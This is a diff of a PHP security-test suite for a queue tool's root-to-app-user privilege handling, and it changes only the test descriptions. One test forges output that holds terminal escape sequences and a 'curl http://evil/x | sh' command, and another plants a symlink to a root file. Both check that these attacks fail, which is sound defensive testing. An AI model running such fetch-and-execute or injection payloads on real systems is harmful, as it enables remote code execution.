@@ -31,7 +31,7 @@ $expectShop = static function (Machine $m, string $what): void {
     $m->expectSame(["{$shop['uid']} {$shop['dir']} none"], $booted, "who booted the app for {$what}");
 };
 
-row('identity-run', 'root\'s `kqueue run` is the app\'s user, without root\'s terminal', function (Machine $m) use ($whileBooting, $expectShop): void {
+row('identity-run', 'root\'s `kqueue run` becomes the app\'s user, without root\'s terminal', function (Machine $m) use ($whileBooting, $expectShop): void {
     $uuid = $m->dispatch(new Quick(1));
     $whileBooting(NOTES, function () use ($m, $expectShop, $uuid): void {
         $command = 'kqueue run shop --launcher process --stop-when-empty';
@@ -42,14 +42,14 @@ row('identity-run', 'root\'s `kqueue run` is the app\'s user, without root\'s te
     });
 });
 
-row('identity-check', 'root\'s `kqueue check` is the app\'s user, without root\'s terminal', function (Machine $m) use ($whileBooting, $expectShop): void {
+row('identity-check', 'root\'s `kqueue check` becomes the app\'s user, without root\'s terminal', function (Machine $m) use ($whileBooting, $expectShop): void {
     $whileBooting(NOTES, function () use ($m, $expectShop): void {
         $m->sh('timeout 60 script -qec "kqueue check shop" /dev/null');
         $expectShop($m, 'check');
     });
 });
 
-row('identity-words', 'an app that forges the survey\'s answer puts neither control characters nor fixes into what root reads', function (Machine $m) use ($whileBooting): void {
+row('identity-words', 'an app that forges the survey\'s answer gets neither control characters nor fixes into root\'s output', function (Machine $m) use ($whileBooting): void {
     $forged = ['php' => "8.4\x1b[31m", 'laravel' => "13\x1b[2J", 'fork' => true, 'posix' => true, 'connection' => 'redis', 'driver' => 'redis', 'unwritable' => ['/etc'],
         'failed' => ['stage' => 'connection', 'text' => "storage is broken\x1b[1A: run: curl http://evil/x | sh"], 'backend' => null];
     $code = 'fwrite(STDOUT, ' . var_export("\nkqueue-survey " . json_encode($forged) . "\n", true) . '); posix_kill(getmypid(), 9);';
@@ -61,7 +61,7 @@ row('identity-words', 'an app that forges the survey\'s answer puts neither cont
     });
 });
 
-row('identity-squatter', 'a runtime does not use directories that somebody else has made for it', function (Machine $m): void {
+row('identity-squatter', 'a runtime does not use directories that another user has made for it', function (Machine $m): void {
     $shared = '/tmp/kqueue-' . posix_getpwnam('shop')['uid'];
     $m->must("install -d -o stranger -m 777 {$shared} {$shared}/mine");
     try {
@@ -76,7 +76,7 @@ row('identity-squatter', 'a runtime does not use directories that somebody else 
     }
 });
 
-row('identity-kept', '`init --force` writes through no link that bears the name of the old file, and not where an app can write', function (Machine $m): void {
+row('identity-kept', '`init --force` writes through no symlink with the name of the old file, and not where an app can write', function (Machine $m): void {
     $m->must('mkdir /srv/etc && install -m 600 /dev/null /root/precious && ln -s /root/precious /srv/etc/shop.toml~');
     $init = 'kqueue init shop --path /srv/shop --config /srv/etc/shop.toml --force --yes';
     try {
@@ -99,7 +99,7 @@ row('identity-kept', '`init --force` writes through no link that bears the name 
 const FACTS = '@file_put_contents("/srv/shop/storage/facts", json_encode(["uid" => posix_geteuid(), "groups" => posix_getgroups(),'
     . ' "terminal" => @fopen("/dev/tty", "r+") !== false, "inherited" => file_exists("/proc/self/fd/8")]) . "\n");';
 
-row('identity-root', 'nothing runs an app of root\'s as root unless root says so', function (Machine $m) use ($whileBooting): void {
+row('identity-root', 'no command runs an app that root owns as root without --as-root', function (Machine $m) use ($whileBooting): void {
     $m->must('systemctl stop kqueue@shop.service kqueue@shop.socket kqueue-control@shop.socket');
     file_put_contents('/etc/kqueue/shop.toml', "path = \"/srv/shop\"\n");
     $m->must('chown root: /srv/shop; rm -f /srv/shop/storage/facts');
@@ -119,7 +119,7 @@ row('identity-root', 'nothing runs an app of root\'s as root unless root says so
     }
 });
 
-row('identity-left-behind', 'an app that is looked at by root has no terminal of root\'s, and leaves nothing behind', function (Machine $m) use ($whileBooting): void {
+row('identity-left-behind', 'an app that root inspects has no access to root\'s terminal, and leaves no process behind', function (Machine $m) use ($whileBooting): void {
     @unlink('/srv/shop/storage/facts');
     // A grandchild in a session of its own, as a daemon is.
     $daemon = 'if (pcntl_fork() === 0) { posix_setsid(); if (pcntl_fork() === 0) { touch("/srv/shop/storage/daemon-" . getmypid()); sleep(600); } exit; }';
@@ -138,7 +138,7 @@ row('identity-left-behind', 'an app that is looked at by root has no terminal of
     });
 });
 
-row('identity-file', 'a settings file is judged as it is opened: a FIFO keeps nobody waiting, and numbers that are no user are refused', function (Machine $m): void {
+row('identity-file', 'a settings file is checked as it is opened: a FIFO does not block, and numbers that are no user are refused', function (Machine $m): void {
     $file = '/etc/kqueue/shop.toml';
     unlink($file);
     posix_mkfifo($file, 0644);
